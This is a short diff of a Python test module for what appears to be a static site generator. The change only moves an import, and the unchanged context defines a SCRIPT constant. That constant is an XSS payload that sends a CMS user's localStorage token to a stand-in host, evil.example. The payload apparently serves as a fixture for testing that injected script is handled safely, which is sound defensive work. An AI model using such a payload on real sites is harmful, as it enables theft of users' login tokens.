@@ -25,7 +25,7 @@ from generator.read.addresses import ACCESSIBILITY_PAGE, SERVICE, url_of
 from generator.read.attachments import PUBLISHED, markup
 from generator.settings.options import Settings
 from tests.conftest import ENV, ROOT, innopub, project, write_files
-from tests.test_check import BASE
+from tests.fixtures.content import BASE
 
 SCRIPT = "<script>fetch('https://evil.example/?' + localStorage.getItem('sveltia-cms.user'))</script>"
 PNG = bytes.fromhex(
